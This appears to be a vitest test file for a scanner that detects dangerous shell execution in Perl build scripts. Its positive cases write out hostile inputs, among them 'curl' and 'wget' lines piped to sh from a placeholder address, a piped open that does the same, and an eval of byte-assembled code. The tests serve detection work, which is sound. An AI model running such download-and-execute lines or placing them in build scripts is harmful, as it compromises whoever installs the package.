import { describe, it, expect } from "vitest";
import { analyze } from "../src/content/analyze.js";

const ids = (text: string, path = "Makefile.PL") => analyze(path, text).hits.map((h) => `${h.effect}`);

describe("Perl build scripts: the commands Perl hands to a shell are analysed as shell", () => {
  it("negative: an ordinary Makefile.PL does nothing dangerous", () => {
    expect(ids("use ExtUtils::MakeMaker;\nWriteMakefile(NAME => 'P', VERSION_FROM => 'lib/P.pm', PREREQ_PM => { 'Test::More' => 0 });\n")).toEqual([]);
    expect(analyze("Makefile.PL", "1;\n").language).toBe("perl");
  });
  it("positive: backticks, qx{}, system and piped open reach the shell analysis", () => {
    expect(ids("`curl -s http://203.0.113.9/x | sh`;\n")).toContain("downloads");
    expect(ids("my $x = qx{cat tests/files/good.xz | xz -d | sh};\n")).toContain("reads-tree");
    expect(ids('system("wget -qO- http://203.0.113.9/p | sh");\n')).toContain("downloads");
    expect(ids('open(my $f, "-|", "curl -s http://203.0.113.9/p | sh");\n')).toContain("downloads");
  });
  it("evasion: a string eval, a socket or an HTTP client module", () => {
    expect(ids("my $c = join '', map { chr } @bytes;\neval $c;\n")).toContain("evals");
    expect(ids("use IO::Socket::INET;\n")).toContain("network");
    expect(ids("require HTTP::Tiny;\n")).toContain("downloads");
  });
});
